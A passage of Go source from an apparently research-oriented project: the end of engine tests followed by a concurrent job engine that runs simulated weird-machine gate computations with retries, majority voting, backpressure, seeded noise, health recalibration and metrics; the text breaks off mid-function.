	if _, err := e.Submit(JobSpec{Type: "test-block-backpressure"}); !errors.Is(err, ErrQueueFull) {
		t.Fatalf("Submit on a full queue: err = %v, want ErrQueueFull", err)
	}

	release()
	for _, j := range []*Job{running, queued} {
		if snap := waitJob(t, j); snap.Status != StatusDone {
			t.Errorf("job %s: status %s, err %q", j.ID(), snap.Status, snap.Error)
		}
	}
}

func TestCloseDrainsQueuedJobs(t *testing.T) {
	release := blockingHandler(t, "test-block-drain")
	defer release()
	e, err := New(Config{Workers: 1, QueueDepth: 8})
	if err != nil {
		t.Fatalf("New: %v", err)
	}

	blocker := mustSubmit(t, e, JobSpec{Type: "test-block-drain"})
	var queued []*Job
	for i := 0; i < 3; i++ {
		queued = append(queued, mustSubmit(t, e, JobSpec{
			Type:   JobTypeGate,
			Params: rawParams(t, GateParams{Gate: "AND", Random: 2}),
		}))
	}

	closed := make(chan error, 1)
	go func() { closed <- e.Close(context.Background()) }()
	release()
	if err := <-closed; err != nil {
		t.Fatalf("Close: %v", err)
	}

	if snap := blocker.Snapshot(); snap.Status != StatusDone {
		t.Errorf("blocker: status %s", snap.Status)
	}
	for _, j := range queued {
		if snap := j.Snapshot(); snap.Status != StatusDone {
			t.Errorf("queued job %s was not drained: status %s, err %q", j.ID(), snap.Status, snap.Error)
		}
	}
	if _, err := e.Submit(JobSpec{Type: JobTypeGate}); !errors.Is(err, ErrClosed) {
		t.Errorf("Submit after Close: err = %v, want ErrClosed", err)
	}
}

func TestCloseHardCancelsOnDeadline(t *testing.T) {
	// Never released: only engine teardown can end this job.
	Register("test-block-forever", func(ctx context.Context, _ *Env, _ json.RawMessage) (any, error) {
		<-ctx.Done()
		return nil, ctx.Err()
	})
	e, err := New(Config{Workers: 1})
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	j := mustSubmit(t, e, JobSpec{Type: "test-block-forever"})

	ctx, cancel := context.WithTimeout(context.Background(), 100*time.Millisecond)
	defer cancel()
	if err := e.Close(ctx); !errors.Is(err, context.DeadlineExceeded) {
		t.Fatalf("Close past deadline: err = %v, want DeadlineExceeded", err)
	}
	if snap := waitJob(t, j); snap.Status != StatusCanceled {
		t.Errorf("hard-canceled job: status %s, want %s", snap.Status, StatusCanceled)
	}
}

// TestPoolStress hammers a multi-worker pool from many submitters at
// once; run under -race this is the engine's memory-safety referee.
func TestPoolStress(t *testing.T) {
	e := newTestEngine(t, Config{Workers: 4, QueueDepth: 16})
	const submitters = 8
	const perSubmitter = 6

	var wg sync.WaitGroup
	errs := make(chan error, submitters*perSubmitter)
	for s := 0; s < submitters; s++ {
		wg.Add(1)
		go func(s int) {
			defer wg.Done()
			gates := []string{"AND", "TSX_XOR", "OR", "TSX_AND"}
			for i := 0; i < perSubmitter; i++ {
				spec := JobSpec{
					Type:   JobTypeGate,
					Params: rawParams(t, GateParams{Gate: gates[(s+i)%len(gates)], Random: 2}),
				}
				for {
					j, err := e.Submit(spec)
					if errors.Is(err, ErrQueueFull) {
						time.Sleep(5 * time.Millisecond)
						continue
					}
					if err != nil {
						errs <- err
						return
					}
					<-j.Done()
					if st := j.Status(); st != StatusDone {
						errs <- errors.New("job " + j.ID() + " finished " + string(st) + ": " + j.Err())
					}
					break
				}
			}
		}(s)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
	if got := e.Stats().Submitted; got < submitters*perSubmitter {
		t.Errorf("Submitted = %d, want >= %d", got, submitters*perSubmitter)
	}
}

func TestRetainJobsEvictsOldest(t *testing.T) {
	e := newTestEngine(t, Config{Workers: 1, RetainJobs: 2})
	var jobs []*Job
	for i := 0; i < 4; i++ {
		j := mustSubmit(t, e, JobSpec{
			Type:   JobTypeGate,
			Params: rawParams(t, GateParams{Gate: "AND", Random: 1}),
		})
		waitJob(t, j)
		jobs = append(jobs, j)
	}
	if _, ok := e.Get(jobs[0].ID()); ok {
		t.Error("oldest job survived past the retention window")
	}
	if _, ok := e.Get(jobs[3].ID()); !ok {
		t.Error("newest job was evicted")
	}
	if got := len(e.Jobs()); got != 2 {
		t.Errorf("retained %d jobs, want 2", got)
	}
}
