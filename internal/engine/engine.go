// Package engine runs weird-machine jobs concurrently across a pool of
// workers, each pinning its own core.Machine.
//
// The paper's primitives are inherently noisy — gate accuracies sit
// below 100% with gate-dependent error rates (Tables 2, 5, 8) — and the
// paper recovers reliability through redundancy (§5's s/k/n scheme).
// The engine lifts that discussion one layer up: every job runs under a
// retry policy with majority voting over whole results, a bounded queue
// applies backpressure, and per-job context deadlines are enforced at
// gate boundaries, so a hung or hopeless job abandons its gate loop
// instead of wedging a worker.
//
// Reproducibility under parallelism is a design invariant, not an
// accident: all workers build byte-identical rigs (same seed, same
// construction order), each job derives a sub-seed from the engine
// seed and its submission index (noise.SubSeed), and the worker
// re-pins its machine's noise stream to that sub-seed before every
// attempt. With the default noise profile (see DefaultNoise) a pooled
// run therefore produces byte-identical per-job results to a serial
// run of the same submissions.
package engine

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"uwm/internal/circopt"
	"uwm/internal/evlog"
	"uwm/internal/flightrec"
	"uwm/internal/health"
	"uwm/internal/metrics"
	"uwm/internal/noise"
	"uwm/internal/skelly"
	"uwm/internal/slo"
	"uwm/internal/trace"
)

// Sentinel errors returned by Submit.
var (
	// ErrQueueFull means the bounded queue rejected the job; callers
	// should back off and retry (an HTTP front end maps this to 429).
	ErrQueueFull = errors.New("engine: queue full")
	// ErrClosed means the engine is draining or closed.
	ErrClosed = errors.New("engine: closed")
)

// RetryPolicy turns the paper's redundancy discussion into a
// reliability knob: run up to Attempts redundant executions of a job,
// accept a result once Vote byte-identical copies of it exist, and
// back off exponentially after errored attempts.
type RetryPolicy struct {
	// Attempts is the maximum number of executions (default 1).
	Attempts int
	// Vote is the agreement count a result needs to win early
	// (default 1: first success is accepted). With Attempts 3 and
	// Vote 2, two agreeing executions settle the job.
	Vote int
	// Backoff is the sleep after the first errored attempt, doubling
	// per consecutive error up to MaxBackoff (defaults 10ms / 1s).
	Backoff    time.Duration
	MaxBackoff time.Duration
}

func (p RetryPolicy) normalized() RetryPolicy {
	if p.Attempts < 1 {
		p.Attempts = 1
	}
	if p.Vote < 1 {
		p.Vote = 1
	}
	if p.Vote > p.Attempts {
		p.Vote = p.Attempts
	}
	if p.Backoff <= 0 {
		p.Backoff = 10 * time.Millisecond
	}
	if p.MaxBackoff <= 0 {
		p.MaxBackoff = time.Second
	}
	return p
}

// DefaultNoise is the engine's noise profile: the paper's isolated-core
// calibration with the two history-coupled processes disabled. DRAM
// jitter draws once per cache miss and window jitter once per
// mispredicted branch — both counts depend on microarchitectural state
// left by earlier jobs, so under either process a job's noise stream
// would shift with scheduling and pooled runs could diverge from
// serial ones. The remaining processes (timer jitter, interrupt
// outliers, stray evictions and fills, training failures, TSX aborts
// and chain breaks) draw a fixed number of times per activation, which
// keeps per-job streams aligned while preserving the paper's error
// bands (TSX gates stay in the 0.92–0.99 accuracy range that makes
// vote-of-3 worth paying for). It is noise.Replayable, re-exported
// under the name engine callers have always used.
func DefaultNoise() noise.Config { return noise.Replayable() }

// Config parameterizes an Engine.
type Config struct {
	// Workers is the pool size; each worker pins one Machine
	// (default 1).
	Workers int
	// QueueDepth bounds the submission queue (default 64). A full
	// queue rejects Submit with ErrQueueFull — backpressure instead of
	// unbounded memory.
	QueueDepth int
	// Seed is the root seed every per-job sub-seed derives from
	// (default 2021, the repo's experiment seed).
	Seed uint64
	// Noise overrides the machines' noise model; nil selects
	// DefaultNoise(). Profiles with DRAM or window jitter enabled
	// still run, but forfeit the serial-equals-pooled guarantee.
	Noise *noise.Config
	// TrainIterations is the BP-WR training count (default 4 — the
	// accuracy-experiment setting, an order of magnitude cheaper than
	// the paper's heavy 100-iteration mistraining loops).
	TrainIterations int
	// Skelly is the redundancy configuration of the worker gate
	// library (default s=3, k=1, n=1 with verification counters on).
	Skelly skelly.Config
	// Retry is the engine-wide retry/vote policy; JobSpec can raise it
	// per job.
	Retry RetryPolicy
	// DefaultTimeout bounds a job's execution when its spec does not
	// (default 60s).
	DefaultTimeout time.Duration
	// RetainJobs caps how many terminal jobs stay queryable; older
	// ones are evicted oldest-first (default 1024, negative retains
	// everything).
	RetainJobs int
	// Metrics, when non-nil, receives the engine's instruments (queue
	// depth, in-flight gauge, per-type latency, retry/vote counters).
	Metrics *metrics.Registry
	// Sink, when non-nil, receives every worker machine's trace
	// events — including the per-job spans the engine brackets around
	// handler execution — serialized through one lock. With more than
	// one worker the spans of concurrent jobs interleave; profile with
	// Workers=1 when frame attribution matters.
	Sink trace.Sink
	// Health tunes the per-worker gate-health monitors; nil selects the
	// monitor defaults. Every worker always carries a monitor: when its
	// drift detector fires, the worker finishes the job in hand and
	// recalibrates its machine before taking the next one.
	Health *health.Config
	// FlightRec, when non-nil, gives every job a private bounded trace
	// capture: each worker's machine is teed into a per-worker tap that
	// the worker points at the running job's capture, and at completion
	// the recorder's tail-based sampling decides whether the capture is
	// kept for retrieval. Captures are seeded with the worker monitor's
	// drift-state checkpoint so a kept trace replays to the live health
	// verdict on its own.
	FlightRec *flightrec.Recorder
	// SLO, when non-nil, receives one Observation per terminal job —
	// status, latency, and (for gate jobs) the per-op accuracy tally —
	// evaluated at the SLO engine's clock. Wire the same flight
	// recorder as its TracePinner so firing alerts hold their evidence.
	SLO *slo.Engine
	// Log, when non-nil, receives structured event records at the
	// engine's operational boundaries: retries, vote disagreements,
	// worker recalibrations and handler panics, each carrying the job
	// and request ids. Nil disables event logging (the nil Logger
	// no-ops).
	Log *evlog.Logger
}

func (c Config) normalized() Config {
	if c.Workers < 1 {
		c.Workers = 1
	}
	if c.QueueDepth < 1 {
		c.QueueDepth = 64
	}
	if c.Seed == 0 {
		c.Seed = 2021
	}
	if c.Noise == nil {
		def := DefaultNoise()
		c.Noise = &def
	}
	if c.TrainIterations == 0 {
		c.TrainIterations = 4
	}
	if c.Skelly.S == 0 && c.Skelly.N == 0 && c.Skelly.K == 0 {
		c.Skelly = skelly.Config{S: 3, K: 1, N: 1, Verify: true}
	}
	c.Retry = c.Retry.normalized()
	if c.DefaultTimeout <= 0 {
		c.DefaultTimeout = 60 * time.Second
	}
	if c.RetainJobs == 0 {
		c.RetainJobs = 1024
	}
	return c
}

// Metric series exported by the engine.
const (
	MetricJobs            = "uwm_engine_jobs_total"
	MetricRejected        = "uwm_engine_rejected_total"
	MetricRetries         = "uwm_engine_retries_total"
	MetricVotes           = "uwm_engine_votes_total"
	MetricDisagreements   = "uwm_engine_vote_disagreements_total"
	MetricRecalibrations  = "uwm_engine_recalibrations_total"
	MetricQueueLen        = "uwm_engine_queue_depth"
	MetricQueueCap        = "uwm_engine_queue_capacity"
	MetricInflight        = "uwm_engine_inflight_jobs"
	MetricWorkers         = "uwm_engine_workers"
	MetricHealthyWorkers  = "uwm_engine_healthy_workers"
	MetricDriftingWorkers = "uwm_engine_drifting_workers"
	MetricJobLatSec       = "uwm_engine_job_seconds"
)

// Retry reason labels on MetricRetries.
const (
	RetryTimeout  = "timeout"  // the attempt's error was a deadline expiry
	RetryError    = "error"    // the attempt errored for any other reason
	RetryMismatch = "mismatch" // a successful attempt disagreed with an earlier one
)

// jobSecondsBuckets spans sub-millisecond gate evaluations up to
// minute-scale SHA-1 hashes.
var jobSecondsBuckets = []float64{
	0.001, 0.0025, 0.005, 0.01, 0.025, 0.05, 0.1,
	0.25, 0.5, 1, 2.5, 5, 10, 30, 60, 120,
}

// Engine is the concurrent weird-machine job executor.
type Engine struct {
	cfg   Config
	rigs  []*Rig
	queue chan *Job

	mu       sync.Mutex
	jobs     map[string]*Job
	order    []string // terminal-job eviction order
	closed   bool
	seq      atomic.Uint64
	inflight atomic.Int64

	hardStop context.CancelFunc
	baseCtx  context.Context
	wg       sync.WaitGroup

	rejected *metrics.Counter
	plans    *circopt.Cache
	flight   *flightrec.Recorder
	slos     *slo.Engine
	log      *evlog.Logger

	completions rateTracker
}

// rateTracker estimates the pool's recent job-completion rate from a
// ring of completion timestamps. The serving layer divides the queue
// depth by this rate to derive an honest Retry-After hint on 429 —
// "come back when the backlog you are behind has drained", instead of
// a hardcoded constant.
type rateTracker struct {
	mu    sync.Mutex
	times [64]time.Time
	next  int
	n     int
}

// record notes one completion.
func (rt *rateTracker) record(t time.Time) {
	rt.mu.Lock()
	rt.times[rt.next] = t
	rt.next = (rt.next + 1) % len(rt.times)
	if rt.n < len(rt.times) {
		rt.n++
	}
	rt.mu.Unlock()
}

// rate returns completions per second over the window from the oldest
// retained completion to now. Measuring to now (not to the newest
// completion) makes the estimate decay while the pool sits idle or
// wedged: a backlog behind a stalled pool yields a long, honest hint
// rather than one frozen at the last burst's speed.
func (rt *rateTracker) rate(now time.Time) float64 {
	rt.mu.Lock()
	defer rt.mu.Unlock()
	if rt.n == 0 {
		return 0
	}
	oldest := rt.times[(rt.next-rt.n+len(rt.times))%len(rt.times)]
	window := now.Sub(oldest).Seconds()
	if window <= 0 {
		window = 1e-3
	}
	return float64(rt.n) / window
}

// New builds the pool: Workers rigs are constructed concurrently (each
// calibrates its own machine) and the engine is ready once all of them
// are. A configuration any rig rejects fails New as a whole.
func New(cfg Config) (*Engine, error) {
	cfg = cfg.normalized()
	var sink trace.Sink
	if cfg.Sink != nil {
		sink = &lockedSink{s: cfg.Sink}
	}

	rigs := make([]*Rig, cfg.Workers)
	errs := make([]error, cfg.Workers)
	var build sync.WaitGroup
	for i := range rigs {
		build.Add(1)
		go func(i int) {
			defer build.Done()
			rigs[i], errs[i] = newRig(cfg, sink, i)
		}(i)
	}
	build.Wait()
	for _, err := range errs {
		if err != nil {
			return nil, err
		}
	}

	ctx, cancel := context.WithCancel(context.Background())
	e := &Engine{
		cfg:      cfg,
		rigs:     rigs,
		queue:    make(chan *Job, cfg.QueueDepth),
		jobs:     make(map[string]*Job),
		baseCtx:  ctx,
		hardStop: cancel,
		// One plan cache for the whole pool: plans are immutable once
		// optimized and keyed by content, so every worker can share them.
		plans:  circopt.NewCache(0, cfg.Metrics),
		flight: cfg.FlightRec,
		slos:   cfg.SLO,
		log:    cfg.Log,
	}
	e.registerMetrics()
	for _, rig := range rigs {
		e.wg.Add(1)
		go e.worker(rig)
	}
	return e, nil
}

// registerMetrics exposes the engine's instruments; a nil registry
// hands back nil (disabled) instruments throughout.
func (e *Engine) registerMetrics() {
	reg := e.cfg.Metrics
	e.rejected = reg.Counter(MetricRejected, "jobs rejected by queue backpressure")
	reg.GaugeFunc(MetricQueueLen, "jobs waiting in the submission queue",
		func() float64 { return float64(len(e.queue)) })
	reg.Gauge(MetricQueueCap, "submission queue capacity").Set(float64(e.cfg.QueueDepth))
	reg.GaugeFunc(MetricInflight, "jobs currently executing",
		func() float64 { return float64(e.inflight.Load()) })
	reg.Gauge(MetricWorkers, "worker pool size").Set(float64(e.cfg.Workers))
	reg.GaugeFunc(MetricHealthyWorkers, "workers whose gate-health monitor reports healthy",
		func() float64 {
			n := 0
			for _, r := range e.rigs {
				if r.Health.Healthy() {
					n++
				}
			}
			return float64(n)
		})
	reg.GaugeFunc(MetricDriftingWorkers, "workers whose drift detector is currently latched",
		func() float64 {
			n := 0
			for _, r := range e.rigs {
				if r.Health.Drifting() {
					n++
				}
			}
			return float64(n)
		})
}

// Seed returns the engine's root seed.
func (e *Engine) Seed() uint64 { return e.cfg.Seed }

// FlightRecorder returns the engine's flight recorder, or nil when the
// engine runs without one — the serving layer's handle for the trace
// retrieval endpoints.
func (e *Engine) FlightRecorder() *flightrec.Recorder { return e.flight }

// SLO returns the engine's SLO engine, or nil when the engine runs
// without one — the serving layer's handle for the budget and alert
// endpoints.
func (e *Engine) SLO() *slo.Engine { return e.slos }

// EventLog returns the engine's structured event logger, or nil.
func (e *Engine) EventLog() *evlog.Logger { return e.log }

// Workers returns the pool size.
func (e *Engine) Workers() int { return e.cfg.Workers }

// DrainRate returns the pool's recent job-completion rate in jobs per
// second, measured from the oldest retained completion to now (0 until
// the first job completes). The HTTP layer derives its 429 Retry-After
// hint from it.
func (e *Engine) DrainRate() float64 { return e.completions.rate(time.Now()) }

// Submit validates and enqueues a job. It never blocks: a full queue
// returns ErrQueueFull immediately, which is the backpressure signal
// serving layers translate into 429.
func (e *Engine) Submit(spec JobSpec) (*Job, error) {
	if _, ok := lookupHandler(spec.Type); !ok {
		return nil, fmt.Errorf("engine: unknown job type %q (have %v)", spec.Type, JobTypes())
	}
	if len(spec.Params) > 0 && !json.Valid(spec.Params) {
		return nil, fmt.Errorf("engine: job params are not valid JSON")
	}
	if spec.Timeout <= 0 {
		spec.Timeout = e.cfg.DefaultTimeout
	}

	e.mu.Lock()
	if e.closed {
		e.mu.Unlock()
		return nil, ErrClosed
	}
	seq := e.seq.Add(1)
	j := &Job{
		id:        fmt.Sprintf("job-%08d", seq),
		seq:       seq,
		spec:      spec,
		subSeed:   spec.Seed,
		status:    StatusQueued,
		submitted: time.Now(),
		done:      make(chan struct{}),
	}
	if j.subSeed == 0 {
		j.subSeed = noise.SubSeed(e.cfg.Seed, seq)
	}
	select {
	case e.queue <- j:
		e.jobs[j.id] = j
		e.mu.Unlock()
		return j, nil
	default:
		e.mu.Unlock()
		e.rejected.Inc()
		return nil, ErrQueueFull
	}
}

// Get returns a submitted job by id.
func (e *Engine) Get(id string) (*Job, bool) {
	e.mu.Lock()
	defer e.mu.Unlock()
	j, ok := e.jobs[id]
	return j, ok
}

// Jobs returns every retained job in submission order.
func (e *Engine) Jobs() []*Job {
	e.mu.Lock()
	out := make([]*Job, 0, len(e.jobs))
	for _, j := range e.jobs {
		out = append(out, j)
	}
	e.mu.Unlock()
	for i := 1; i < len(out); i++ {
		for k := i; k > 0 && out[k].seq < out[k-1].seq; k-- {
			out[k], out[k-1] = out[k-1], out[k]
		}
	}
	return out
}

// Stats is a point-in-time view of the pool for health endpoints.
type Stats struct {
	Workers       int   `json:"workers"`
	QueueDepth    int   `json:"queue_depth"`
	QueueCapacity int   `json:"queue_capacity"`
	Inflight      int   `json:"inflight"`
	Submitted     int64 `json:"submitted"`
	Draining      bool  `json:"draining"`
	// HealthyWorkers counts workers whose gate-health monitor reports
	// healthy; DriftingWorkers counts latched drift verdicts awaiting
	// recalibration. HealthyWorkers + unhealthy-but-not-drifting +
	// DriftingWorkers need not sum to Workers (a worker can be degraded
	// by error rate without drifting).
	HealthyWorkers  int `json:"healthy_workers"`
	DriftingWorkers int `json:"drifting_workers"`
}

// Stats reports the pool's current occupancy.
func (e *Engine) Stats() Stats {
	e.mu.Lock()
	closed := e.closed
	e.mu.Unlock()
	s := Stats{
		Workers:       e.cfg.Workers,
		QueueDepth:    len(e.queue),
		QueueCapacity: e.cfg.QueueDepth,
		Inflight:      int(e.inflight.Load()),
		Submitted:     int64(e.seq.Load()),
		Draining:      closed,
	}
	for _, r := range e.rigs {
		if r.Health.Healthy() {
			s.HealthyWorkers++
		}
		if r.Health.Drifting() {
			s.DriftingWorkers++
		}
	}
	return s
}

// WorkerHealth pairs a worker's id with its gate-health snapshot.
type WorkerHealth struct {
	Worker   int             `json:"worker"`
	Snapshot health.Snapshot `json:"health"`
}

// Health snapshots every worker's gate-health monitor, ordered by
// worker id — the payload behind the serving layer's health detail
// endpoint.
func (e *Engine) Health() []WorkerHealth {
	out := make([]WorkerHealth, len(e.rigs))
	for i, r := range e.rigs {
		out[i] = WorkerHealth{Worker: r.ID, Snapshot: r.Health.Snapshot()}
	}
	return out
}

// Close drains the engine: intake stops (Submit returns ErrClosed),
// queued and in-flight jobs run to completion, workers exit. If ctx
// expires first, every remaining job is canceled hard and Close
// returns ctx.Err() after the workers confirm. Safe to call twice.
func (e *Engine) Close(ctx context.Context) error {
	e.mu.Lock()
	if !e.closed {
		e.closed = true
		close(e.queue)
	}
	e.mu.Unlock()

	drained := make(chan struct{})
	go func() {
		e.wg.Wait()
		close(drained)
	}()
	select {
	case <-drained:
		return nil
	case <-ctx.Done():
		e.hardStop()
		<-drained
		return ctx.Err()
	}
}

// worker owns one rig and serves the queue until drained. Between jobs
// the worker consults its health monitor: a latched drift verdict
// triggers an in-place recalibration — the work in hand has already
// drained, and the next job starts against a re-centered threshold.
func (e *Engine) worker(rig *Rig) {
	defer e.wg.Done()
	for j := range e.queue {
		e.runJob(rig, j)
		e.maybeRecalibrate(rig)
	}
}

// maybeRecalibrate recovers a drifted worker machine. The recalibration
// emits a KindCalibration event through the machine's health tap, which
// resets the monitor's drift detector — the close of the detect →
// recalibrate → reset loop.
func (e *Engine) maybeRecalibrate(rig *Rig) {
	if !rig.Health.Drifting() {
		return
	}
	workerLabel := metrics.L("worker", strconv.Itoa(rig.ID))
	if err := rig.Machine.Recalibrate(); err != nil {
		// The machine keeps its old threshold; leave the verdict latched
		// so the next job boundary retries the recalibration.
		e.cfg.Metrics.Counter(MetricRecalibrations,
			"worker recalibrations triggered by drift, by outcome",
			workerLabel, metrics.L("outcome", "failed")).Inc()
		e.log.Emit(evlog.Record{
			Level: evlog.Warn, Component: "engine", Event: "worker.recalibrate",
			Msg: "recalibration failed, verdict stays latched: " + err.Error(),
			Fields: evlog.Fields{evlog.F("worker", strconv.Itoa(rig.ID)),
				evlog.F("outcome", "failed")},
		})
		return
	}
	e.cfg.Metrics.Counter(MetricRecalibrations,
		"worker recalibrations triggered by drift, by outcome",
		workerLabel, metrics.L("outcome", "ok")).Inc()
	e.log.Emit(evlog.Record{
		Level: evlog.Info, Component: "engine", Event: "worker.recalibrate",
		Msg: "drift verdict cleared by recalibration",
		Fields: evlog.Fields{evlog.F("worker", strconv.Itoa(rig.ID)),
			evlog.F("outcome", "ok")},
	})
}

// runJob executes one job under its deadline and retry policy and
// moves it to a terminal state.
func (e *Engine) runJob(rig *Rig, j *Job) {
	e.inflight.Add(1)
	defer e.inflight.Add(-1)
	j.setRunning()

	// Open the job's private trace capture and point the worker's tap at
	// it. The capture is seeded with the health monitor's drift-state
	// checkpoint so a kept recording replays to the live verdict without
	// needing any earlier job's events.
	var capture *flightrec.Capture
	if e.flight != nil {
		capture = e.flight.Begin(flightrec.Meta{
			JobID:     j.id,
			RequestID: j.spec.RequestID,
			Type:      j.spec.Type,
		})
		capture.Seed(rig.Health.StateEvent())
		rig.Tap.Set(capture)
	}

	ctx, cancel := context.WithTimeout(e.baseCtx, j.spec.Timeout)
	defer cancel()

	var tally gateTally
	res, panicked, err := e.attempts(ctx, rig, j, &tally)
	reg := e.cfg.Metrics
	typeLabel := metrics.L("type", j.spec.Type)
	switch {
	case err == nil:
		outcome := "plurality"
		if res.Quorum {
			outcome = "quorum"
		}
		reg.Counter(MetricVotes, "voted job results by outcome",
			typeLabel, metrics.L("outcome", outcome)).Inc()
		j.finish(StatusDone, res, "")
	case e.baseCtx.Err() != nil:
		j.finish(StatusCanceled, nil, "engine shutdown: "+err.Error())
	default:
		j.finish(StatusFailed, nil, err.Error())
	}
	st := j.Status()
	reg.Counter(MetricJobs, "jobs by terminal status",
		typeLabel, metrics.L("status", string(st))).Inc()
	snap := j.Snapshot()
	var latency time.Duration
	hasLatency := snap.Started != nil && snap.Finished != nil
	if hasLatency {
		latency = snap.Finished.Sub(*snap.Started)
	}

	var decision flightrec.Decision
	if capture != nil {
		rig.Tap.Set(nil)
		outcome := flightrec.Outcome{
			Status:   string(st),
			Error:    snap.Error,
			Drifting: rig.Health.Drifting(),
			Latency:  latency,
		}
		if res != nil {
			outcome.Retries = res.Retries
			outcome.Disagreement = res.Ballots > 1
		}
		verdict := rig.Health.Verdict()
		outcome.Verdict = &verdict
		decision = e.flight.Finish(capture, outcome)
		if panicked {
			// A handler panic is the post-mortem case par excellence: dump
			// the recorder (the panicking job was just kept on error) while
			// the evidence is fresh, in case the process does not survive
			// whatever corrupted the handler. A failing dump must not take
			// the worker down, so the error is deliberately dropped.
			_, _ = e.flight.Postmortem()
		}
	}
	if panicked {
		e.log.Emit(evlog.Record{
			Level: evlog.Error, Component: "engine", Event: "worker.panic",
			Msg: snap.Error, JobID: j.id, RequestID: j.spec.RequestID, TraceID: j.id,
			Fields: evlog.Fields{evlog.F("worker", strconv.Itoa(rig.ID)),
				evlog.F("type", j.spec.Type)},
			Unlimited: true, // a panic is never flood noise
		})
	}
	if hasLatency {
		h := reg.Histogram(MetricJobLatSec, "job execution wall time in seconds",
			jobSecondsBuckets, typeLabel)
		if decision.Kept {
			// The exemplar ties the latency bucket to a retrievable trace:
			// a spike on the histogram links straight to GET /v1/jobs/{id}/trace.
			h.ObserveExemplar(latency.Seconds(), metrics.L("trace_id", j.id))
		} else {
			h.Observe(latency.Seconds())
		}
	}
	// The SLO observation goes out after the flight-recorder decision so
	// a firing alert's pin request finds the kept trace already indexed.
	// TraceID is set only for kept traces — an alert must name evidence
	// that actually resolves at GET /v1/jobs/{id}/trace.
	if e.slos != nil {
		obs := slo.Observation{
			JobID:          j.id,
			RequestID:      j.spec.RequestID,
			Type:           j.spec.Type,
			Status:         string(st),
			LatencySeconds: latency.Seconds(),
			GateCorrect:    tally.correct,
			GateTotal:      tally.total,
		}
		if decision.Kept {
			obs.TraceID = j.id
		}
		e.slos.Observe(obs)
	}
	e.completions.record(time.Now())
	// Only now wake Done() waiters: a synchronous client released any
	// earlier could fetch the job's trace before the recorder decided to
	// keep it and see a spurious 404.
	j.signalDone()
	e.retire(j)
}

// retire enrolls a terminal job in the retention window and evicts the
// oldest ones past RetainJobs (negative retains everything).
func (e *Engine) retire(j *Job) {
	if e.cfg.RetainJobs < 0 {
		return
	}
	e.mu.Lock()
	e.order = append(e.order, j.id)
	for len(e.order) > e.cfg.RetainJobs {
		delete(e.jobs, e.order[0])
		e.order = e.order[1:]
	}
	e.mu.Unlock()
}

// runHandler executes one attempt with panic isolation: a panicking
// handler becomes an errored attempt instead of an unwound worker
// goroutine (which would strand the queue and leak the job's span).
func runHandler(ctx context.Context, h Handler, env *Env, params json.RawMessage) (value any, panicked bool, err error) {
	defer func() {
		if p := recover(); p != nil {
			panicked = true
			err = fmt.Errorf("engine: handler panic: %v", p)
		}
	}()
	value, err = h(ctx, env, params)
	return value, false, err
}

// attempts runs the redundant executions of one job and votes on the
// results. Attempt a derives its seed as SubSeed(job sub-seed, a), so
// the whole vote is a pure function of the job's sub-seed, wherever
// and in whatever order the pool schedules it. The panicked return
// reports whether any attempt's handler panicked (every panic is also
// an errored attempt).
func (e *Engine) attempts(ctx context.Context, rig *Rig, j *Job, tally *gateTally) (*Result, bool, error) {
	policy := e.cfg.Retry
	if j.spec.Attempts > 0 {
		policy.Attempts = j.spec.Attempts
	}
	if j.spec.Vote > 0 {
		policy.Vote = j.spec.Vote
	}
	policy = policy.normalized()

	h, _ := lookupHandler(j.spec.Type)
	typeLabel := metrics.L("type", j.spec.Type)
	retryCtr := func(reason string) *metrics.Counter {
		return e.cfg.Metrics.Counter(MetricRetries, "extra attempts by cause",
			typeLabel, metrics.L("reason", reason))
	}

	votes := make(map[string]int)
	var ballots []string // first-seen order, the deterministic tie-break
	res := &Result{}
	var lastErr error
	var sawPanic bool
	backoff := policy.Backoff

	for attempt := 0; attempt < policy.Attempts; attempt++ {
		if err := ctx.Err(); err != nil {
			if lastErr == nil {
				lastErr = err
			}
			break
		}
		if attempt > 0 && lastErr != nil {
			if err := sleepCtx(ctx, backoff); err != nil {
				break
			}
			backoff *= 2
			if backoff > policy.MaxBackoff {
				backoff = policy.MaxBackoff
			}
		}

		seed := noise.SubSeed(j.subSeed, uint64(attempt))
		rig.Machine.ReseedNoise(seed)
		// The input RNG derives from the JOB sub-seed, not the attempt
		// seed: redundant attempts must rerun the same inputs under
		// fresh machine noise, or voting would compare apples to
		// oranges and random-input jobs could never reach quorum.
		env := &Env{rig: rig, rng: noise.NewRNG(noise.SubSeed(j.subSeed, ^uint64(0))), seed: seed, gate: tally, plans: e.plans}
		sp := rig.Machine.BeginSpan("job:" + j.spec.Type)
		rig.Machine.Annotate(j.annotation())
		value, panicked, err := runHandler(ctx, h, env, j.spec.Params)
		rig.Machine.EndSpan(sp)
		if panicked {
			sawPanic = true
		}
		res.Attempts++
		if err != nil {
			lastErr = err
			if ctx.Err() != nil {
				break
			}
			res.Retries++
			reason := RetryError
			if errors.Is(err, context.DeadlineExceeded) {
				reason = RetryTimeout
			}
			retryCtr(reason).Inc()
			e.log.Emit(evlog.Record{
				Level: evlog.Warn, Component: "engine", Event: "job.retry",
				Msg: err.Error(), JobID: j.id, RequestID: j.spec.RequestID, TraceID: j.id,
				Fields: evlog.Fields{evlog.F("reason", reason),
					evlog.F("attempt", strconv.Itoa(attempt+1)),
					evlog.F("worker", strconv.Itoa(rig.ID))},
			})
			continue
		}
		lastErr = nil
		backoff = policy.Backoff

		raw, err := json.Marshal(value)
		if err != nil {
			return nil, sawPanic, fmt.Errorf("engine: %s result not serializable: %w", j.spec.Type, err)
		}
		key := string(raw)
		if votes[key] == 0 {
			ballots = append(ballots, key)
			if len(ballots) > 1 {
				// A fresh conflicting ballot: every further attempt this
				// job burns is disagreement-driven.
				retryCtr(RetryMismatch).Inc()
				e.log.Emit(evlog.Record{
					Level: evlog.Warn, Component: "engine", Event: "job.disagreement",
					Msg:   "redundant attempts produced conflicting results",
					JobID: j.id, RequestID: j.spec.RequestID, TraceID: j.id,
					Fields: evlog.Fields{evlog.F("ballots", strconv.Itoa(len(ballots))),
						evlog.F("attempt", strconv.Itoa(attempt+1)),
						evlog.F("worker", strconv.Itoa(rig.ID))},
				})
			}
		}
		votes[key]++
		if votes[key] >= policy.Vote {
			res.Value = json.RawMessage(key)
			res.Votes = votes[key]
			res.Quorum = true
			res.Ballots = len(ballots)
			e.countDisagreements(typeLabel, ballots)
			return res, sawPanic, nil
		}
